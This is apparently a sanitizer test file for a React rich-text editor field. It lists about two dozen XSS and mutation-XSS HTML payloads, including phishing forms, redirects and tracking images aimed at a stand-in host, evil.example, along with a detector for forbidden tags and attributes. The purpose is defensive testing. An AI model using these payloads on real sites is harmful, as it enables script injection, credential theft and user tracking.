import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { TestView } from '../testing/TestView.tsx';

const run = 'globalThis.hasRun=true';
const picture = `<img src="x" onerror="${run}">`;

/** Malicious HTML from other programs, authors and pasted content. */
const attacks: readonly (readonly [what: string, html: string])[] = [
  ['a script', `<script>${run}</script>`],
  ['a script in a list', `<ul><li><script>${run}</script>x</li></ul>`],
  ['an event', picture],
  ['an event of a part that opens by itself', `<details open ontoggle="${run}">x</details>`],
  ['an event of a drawing', `<svg onload="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`],
  ['a link that is code', `<a href="javascript:${run}">x</a>`],
  ['a link that is code, broken up', `<a href="java&#10;script:${run}">x</a><a href="&#1;javascript:${run}">y</a>`],
  ['a link that is a page', `<a href="data:text/html,<script>${run}</script>">x</a>`],
  ['a frame', `<iframe srcdoc="<script>parent.hasRun=true</script>"></iframe>`],
  ['an object', `<object data="data:text/html,<script>${run}</script>"></object><embed src="javascript:${run}">`],
  ['a style that covers the page', '<p style="position:fixed;inset:0;background:red">x</p>'],
  ['a style sheet', '<style>*{display:none}</style><link rel="stylesheet" href="//evil.example/a.css">'],
  ['a form', '<form action="//evil.example"><input name="password"><button>Sign in</button></form>'],
  ['another base, another page', '<base href="//evil.example/"><meta http-equiv="refresh" content="0;//evil.example">'],
  ['a picture that tells who reads', '<img src="https://evil.example/a.png" srcset="//evil.example/b.png 2x">'],
  [
    'a drawing in a picture',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  ],
  ['a template', `<template><p>${picture}</p></template>`],
  ['mutation by a style in maths', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${picture}">`],
  ['mutation by a style in a drawing', `<svg></p><style><a id="</style>${picture}">`],
  ['mutation by noscript', `<noscript><p title="</noscript>${picture}">`],
  ['mutation by two forms', `<form><math><mtext></form><form><mglyph><style></math>${picture}`],
  ['mutation by a comment', `<!--><svg><!--${picture}--></svg>`],
  ['mutation by a title', `<svg><title><style><img title="</title>${picture}"></style></title></svg>`],
  ['a table’s background', `<table background="javascript:${run}"><tr><td onclick="${run}">x</table>`],
];

const forbidden =
  'script,style,link,meta,base,iframe,object,embed,svg,math,form,input,button,template,noscript,audio,video';

function evilIn(root: ParentNode): readonly string[] {
  const elements = [...root.querySelectorAll('*')];
  const attributes = elements.flatMap((element) => [...element.attributes].map(({ name }) => name));
  const addresses = [...root.querySelectorAll<HTMLAnchorElement>('a[href]')].map(({ protocol }) => protocol);
  return [
    ...[...root.querySelectorAll(forbidden)].map(({ tagName }) => tagName),
    ...attributes.filter(
      (name) => name.startsWith('on') || ['srcdoc', 'srcset', 'background', 'popover'].includes(name),
    ),
    ...addresses.filter((protocol) => !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)),
    ...[...root.querySelectorAll('img')].map((image) => image.src).filter((src) => src.includes('evil.example')),
  ];
}

const parsed = (html: string) => new DOMParser().parseFromString(html, 'text/html').body;
const definition = { type: 'textarea', key: 'n', label: 'Notes', editor: 'ckeditor' };
const text = () => screen.getByRole('textbox', { name: 'Notes' });

beforeEach(() => Reflect.deleteProperty(globalThis, 'hasRun'));
afterEach(() => {
  cleanup();
  expect(globalThis).not.toHaveProperty('hasRun');
});

describe.each(attacks)('%s', (_, html) => {
  it('runs no code in a read-only text', () => {
    const { container } = render(<TestView definition={definition} answer={`<p>before</p>${html}`} readOnly />);
    const prose = container.querySelector('[role=group]')!;
    expect(prose.textContent).toContain('before');
    expect([evilIn(prose), prose.querySelectorAll('[style]').length]).toEqual([[], 0]);
  });

  it('runs no code in the editor, and is removed from the stored text', async () => {
    const onChange = vi.fn();
    render(<TestView definition={definition} answer={`<p>before</p>${html}`} onChange={onChange} />);
    expect(evilIn(text())).toEqual([]);
    await userEvent.click(screen.getByText('before'));
    await userEvent.keyboard('!');
    const stored = parsed(onChange.mock.lastCall![0]);
    expect(stored.textContent).toMatch(/before|!/);
    expect([evilIn(stored), stored.querySelectorAll('[style]').length]).toEqual([[], 0]);
  });

  it('runs no code when pasted', async () => {
    const onChange = vi.fn();
    render(<TestView definition={definition} answer="<p>before</p>" onChange={onChange} />);
    await userEvent.click(screen.getByText('before'));
    const clipboardData = new DataTransfer();
    clipboardData.setData('text/html', `<b>pasted</b>${html}`);
    text().dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
    await expect.poll(() => onChange.mock.lastCall?.[0]).toContain('pasted');
    expect([evilIn(text()), evilIn(parsed(onChange.mock.lastCall![0]))]).toEqual([[], []]);
  });
});
